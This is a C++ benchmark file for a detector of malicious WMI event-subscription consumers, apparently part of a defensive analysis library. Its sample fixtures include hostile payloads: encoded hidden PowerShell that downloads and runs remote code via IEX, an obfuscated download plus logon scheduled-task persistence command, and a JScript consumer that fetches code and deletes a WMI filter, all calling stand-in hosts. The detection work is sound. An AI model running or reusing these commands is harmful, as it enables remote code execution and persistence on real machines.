// Benchmarks for wmisub/payload.hpp: the cost of analysing typical benign and
// malicious consumer payloads, and throughput on large hostile inputs.
#include "wmisub/payload.hpp"

#include <benchmark/benchmark.h>

#include <string>
#include <vector>

namespace {

std::string enc(std::string_view utf8) { return wmisub::base64_encode(wmisub::utf8_to_utf16le_bytes(utf8)); }

wmisub::consumer command_line(std::string template_text) {
    wmisub::command_line_consumer c;
    c.name = "bench";
    c.command_line_template = std::move(template_text);
    return c;
}

wmisub::consumer script(std::string text, std::string engine) {
    wmisub::active_script_consumer c;
    c.name = "bench";
    c.scripting_engine = std::move(engine);
    c.script_text = std::move(text);
    return c;
}

const std::vector<wmisub::consumer>& samples() {
    static const std::vector<wmisub::consumer> all = [] {
        std::vector<wmisub::consumer> v;
        v.push_back(command_line(R"(C:\Windows\System32\notepad.exe)"));
        v.push_back(command_line("cscript KernCap.vbs"));
        v.push_back(command_line("powershell.exe -NoP -NonI -W Hidden -enc " +
                                 enc("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','x');"
                                     "IEX ($wc.DownloadString('http://192.0.2.10/login/process.php'))")));
        v.push_back(command_line("cmd.exe /c \"set a=power&& set b=shell&& call %a%%b% -nop -c \"\"iwr http://x.example/a -OutFile "
                                 "%TEMP%\\a.exe\"\" & schtasks /create /tn u /tr %TEMP%\\a.exe /sc onlogon\""));
        v.push_back(script("Set objFS = CreateObject(\"Scripting.FileSystemObject\")\nSet f = objFS.OpenTextFile(\"C:\\ASEC.log\", 8, true)\n"
                           "f.WriteLine \"Time: \" & Now & \"; \" & TargetEvent.TargetInstance.Name\nf.Close",
                           "VBScript"));
        v.push_back(script("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"powershell -w hidden -enc " + enc("iwr http://x.example|iex") +
                               "\", 0); var w = GetObject(\"winmgmts:root\\\\cimv2\"); w.Delete(\"__EventFilter.Name='f'\");",
                           "JScript"));
        return v;
    }();
    return all;
}

void BM_consumer(benchmark::State& state) {
    const wmisub::consumer& c = samples()[static_cast<std::size_t>(state.range(0))];
    std::size_t indicators = 0;
    for (auto _ : state) {
        const auto r = wmisub::analyze_consumer(c);
        indicators = r.indicators.size();
        benchmark::DoNotOptimize(indicators);
    }
    state.counters["indicators"] = static_cast<double>(indicators);
    state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}
BENCHMARK(BM_consumer)->DenseRange(0, 5)->ArgName("sample");

void BM_mix(benchmark::State& state) {
    for (auto _ : state) {
        for (const auto& c : samples()) benchmark::DoNotOptimize(wmisub::analyze_consumer(c).indicators.size());
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(samples().size()));
}
BENCHMARK(BM_mix);

void BM_split(benchmark::State& state) {
    const std::string line = R"("C:\Program Files\App\app.exe" -a "b c" d\\"e f\" "g""h" i)";
    for (auto _ : state) benchmark::DoNotOptimize(wmisub::split_command_line(line).size());
}
BENCHMARK(BM_split);

void BM_large(benchmark::State& state) {
    std::string text;
    const std::string unit = "I`E`X ('Down'+'load') ; cmd /c echo %TEMP%\\a.exe http://x.example/ 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=' ";
    while (text.size() < static_cast<std::size_t>(state.range(0))) text += unit;
    for (auto _ : state) benchmark::DoNotOptimize(wmisub::analyze_powershell(text).indicators.size());
    state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) * static_cast<std::int64_t>(text.size()));
}
BENCHMARK(BM_large)->Arg(64 << 10)->Arg(1 << 20)->Unit(benchmark::kMillisecond);

}  // namespace
